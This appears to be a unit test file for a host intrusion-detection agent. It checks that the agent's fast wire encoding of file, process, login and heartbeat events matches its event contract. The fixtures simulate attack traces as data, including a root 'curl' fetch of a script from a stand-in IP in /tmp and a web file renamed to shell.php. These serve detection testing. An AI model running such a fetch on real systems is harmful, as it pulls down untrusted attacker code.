"""The agent's msgspec encoding of events is the contract's: for events of every dataset, built by the real
sensors' observation code, the wire types accept them without the contract's help and encode what the
pydantic path encodes; the collector's decoder and the contract read both the same."""

from __future__ import annotations

import asyncio
import uuid
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec
import orjson
import pytest

from agent.config_types import AuthLogSource
from agent.enrich import Enricher, InvalidObservation
from agent.identity import Identity
from agent.sensors.base import Observation
from agent.sensors.file_integrity.diff import Change
from agent.sensors.file_integrity.observation import to_observation
from agent.sensors.file_integrity.state import FileState
from agent.sensors.heartbeat import HeartbeatSensor
from agent.sensors.login.parsers import parse_record
from agent.sensors.login.sensor import to_record
from agent.sensors.process.connector import ExitEvent
from agent.sensors.process.identity import BootClock
from agent.sensors.process.observation import exec_observation, exit_observation
from agent.sensors.process.procfs import ProcessSnapshot, ProcStat
from agent.sensors.process.snapshotter import ExecSeen, ExitSeen, ParentSnapshot
from collector.decoding import decode
from event_contract import AuthenticationEvent, DecodeError, decode_event, event_from_dict
from event_contract.wire import STRUCT_BY_DATASET, encode_struct
from event_contract.wire_types import AgentHealthWire as AgentHealth
from event_contract.wire_types import SensorHealthWire as SensorHealth
from event_contract.wire_types import SpoolHealthWire as SpoolHealth
from tests.unit.agent.runtime_fixtures import login_observation

_FILE = FileState(
    path="/var/www/portal/index.php", type="file", size=1200, mode=0o644, uid=0, gid=0, inode=42, device=1,
    mtime_ns=1_700_000_000_123_456_789, ctime_ns=1, sha256="a" * 64,
)  # fmt: skip
_CLOCK = BootClock("boot-1", 1_700_000_000.0, 100)
_AUTH_LINES = (
    "Nov 22 14:01:02 web1 sshd[811]: Accepted password for alice from 10.0.0.5 port 52314 ssh2",
    "Nov 22 14:01:02 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.7 port 4022 ssh2",
    "Nov 22 14:01:02 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
    "Nov 22 14:01:02 web1 su[90]: pam_unix(su:session): session opened for user root(uid=0)"
    " by alice(uid=1000)",
    "Nov 22 14:01:02 web1 useradd[77]: new user: name=mallory, UID=1001, GID=1001, home=/home/mallory",
    "Nov 22 14:01:02 web1 sshd[813]: Ngày mới — a line no parser knows, kept as info",
)


def _file_observations() -> list[Observation]:
    changed = _FILE._replace(size=1300, sha256="b" * 64, mtime_ns=_FILE.mtime_ns + 10**9)
    return [
        to_observation(Change("creation", None, _FILE)),
        to_observation(Change("modification", _FILE, changed, ("hash.sha256", "size", "mtime"))),
        to_observation(
            Change("attributes_modification", _FILE, _FILE._replace(mode=0o4755, uid=1), ("mode",))
        ),
        to_observation(Change("rename", _FILE, _FILE._replace(path="/var/www/portal/shell.php"), ("path",))),
        to_observation(Change("deletion", _FILE, None)),
    ]


def _process_observations() -> list[Observation]:
    seen = ExecSeen(
        ProcessSnapshot(
            pid=4242, seen_ns=1_700_000_100 * 10**9, executable="/usr/bin/curl", exe_key=(1, 2, 3),
            args=("curl", "-s", "http://203.0.113.9/x.sh"), stat=ProcStat("curl", 4000, 10_000),
            uid=0, gid=0, cwd="/tmp",
        ),
        ParentSnapshot(4000, "/usr/bin/bash", ("bash",), ProcStat("bash", 1, 5_000)),
    )  # fmt: skip
    started, known = exec_observation(seen, _CLOCK, "c" * 64)
    ended = exit_observation(ExitSeen(ExitEvent(4242, 6), None, 1_700_000_101 * 10**9), _CLOCK, known)
    gone, _ = exec_observation(
        ExecSeen(ProcessSnapshot(pid=5, seen_ns=10**18, stat=ProcStat("t", 4, 1)), None), _CLOCK, None
    )
    return [started, ended, gone]


def _auth_observations() -> list[Observation]:
    source = AuthLogSource(path=Path("/var/log/auth.log"))
    now = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
    found = []
    for line in _AUTH_LINES:
        record = to_record(line, source, now)
        assert record is not None
        observation = parse_record(record, ignored_pam_services=frozenset(), report_unparsed=True)
        assert observation is not None, line
        found.append(observation)
    return found


def _heartbeat_observation() -> Observation:
    health = AgentHealth(
        interval_s=30,
        sensors={
            "fim": SensorHealth(status="degraded", detail="watch limit hit"),
            "login": SensorHealth(status="ok"),
        },
        spool=SpoolHealth(depth=3, bytes=4096, dropped=1, policy="drop_oldest"),
        counters={"fim.observed": 12, "kafka.connected": 1},
    )

    async def first() -> Observation:
        return await anext(HeartbeatSensor(30, lambda: health).observe())

    return asyncio.run(first())


SENSOR_OBSERVATIONS = [
    *_file_observations(),
    *_process_observations(),
    *_auth_observations(),
    _heartbeat_observation(),
    login_observation(),
]


def test_the_observations_cover_every_dataset() -> None:
    assert {observation.dataset for observation in SENSOR_OBSERVATIONS} == set(STRUCT_BY_DATASET)


@pytest.mark.parametrize("observation", SENSOR_OBSERVATIONS, ids=lambda o: f"{o.dataset.value}:{o.action}")
def test_the_wire_encoding_equals_the_contract_encoding(identity: Identity, observation: Observation) -> None:
    enricher = Enricher(identity)
    document = enricher.document(observation)

    # The wire types alone, without the contract's second opinion: the fast path these events take.
    wire = encode_struct(
        msgspec.convert(document, STRUCT_BY_DATASET[observation.dataset], from_attributes=True)
    )
    contract = enricher.by_the_contract(document)

    assert orjson.loads(wire) == orjson.loads(contract)
    assert enricher.encode(document, observation.dataset) == wire
    assert decode(wire) == decode(contract) == orjson.loads(wire)
    assert decode_event(wire) == decode_event(contract)
    kept = orjson.loads(wire)
    event_id = uuid.UUID(kept["event"]["id"])
    assert (event_id.version, event_id.variant, str(event_id)) == (4, uuid.RFC_4122, kept["event"]["id"])
    assert kept["event"]["kind"] == ("state" if observation.action == "heartbeat" else "event")
    assert kept["event"]["module"] == "canhgac"
    assert kept["ecs"] == {"version": decode_event(contract).ecs.version}
    assert kept["agent"]["type"] == "canhgac"
    assert kept["canhgac"]["contract_version"] >= 1


def test_defaults_are_kept_and_only_none_is_left_out(identity: Identity) -> None:
    bare = Identity(
        host=msgspec.structs.replace(identity.host, ip=[], os=None, hostname=None),
        agent=identity.agent,
        organization=identity.organization,
        system=identity.system,
    )
    encoded = orjson.loads(Enricher(bare).enrich(login_observation()).render(1))

    assert encoded["host"]["ip"] == []
    assert "os" not in encoded["host"]
    assert "hostname" not in encoded["host"]
    assert not _nones(encoded)


def _nones(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [key for key, item in value.items() if item is None] + [
            n for item in value.values() for n in _nones(item)
        ]
    if isinstance(value, list):
        return [n for item in value for n in _nones(item)]
    return []


def test_a_spelling_only_the_contracts_lax_mode_knows_is_still_accepted(identity: Identity) -> None:
    observation = login_observation()
    observation = replace(
        observation, fields={**observation.fields, "source": {"ip": "10.0.0.5", "port": "22"}}
    )
    enricher = Enricher(identity)
    with pytest.raises(msgspec.ValidationError):
        msgspec.convert(enricher.document(observation), STRUCT_BY_DATASET[observation.dataset])

    event = decode_event(enricher.enrich(observation).render(1))

    assert isinstance(event, AuthenticationEvent)
    assert event.source is not None
    assert event.source.port == 22


@pytest.mark.parametrize(
    ("source", "field"),
    [({"port": 70_000}, "source.port"), ({"port": "ssh"}, "source.port"), ([1], "source")],
)
def test_an_invalid_observation_is_refused_with_the_contracts_reason(
    identity: Identity, source: Any, field: str
) -> None:
    observation = login_observation()
    observation = replace(observation, fields={**observation.fields, "source": source})
    enricher = Enricher(identity)
    document = enricher.document(observation)
    # What the contract says of the same event (the identity's wire values given as plain dicts).
    for group in ("host", "agent", "organization"):
        document[group] = msgspec.to_builtins(document[group])
    document["canhgac"] = msgspec.to_builtins(document["canhgac"])
    with pytest.raises(DecodeError) as contract:
        event_from_dict(document)

    with pytest.raises(InvalidObservation) as refused:
        enricher.enrich(observation)

    assert refused.value.reason == contract.value.reason
    assert refused.value.reason.startswith(field)


@dataclass(frozen=True)
class _User:
    """A group handed as an object with attributes, not a mapping (as a contract model would be)."""

    name: str


def test_a_group_given_as_an_object_with_attributes_is_read_like_its_mapping(identity: Identity) -> None:
    enricher = Enricher(identity)
    as_object = enricher.enrich(login_observation(fields={"user": _User("alice")}))
    as_mapping = enricher.enrich(login_observation(fields={"user": {"name": "alice"}}))

    def without_id(encoded: bytes) -> dict[str, Any]:
        document = orjson.loads(encoded)
        del document["event"]["id"], document["event"]["created"]
        return dict(document)

    assert without_id(as_object.encoded) == without_id(as_mapping.encoded)
    assert orjson.loads(as_object.encoded)["user"] == {"name": "alice"}
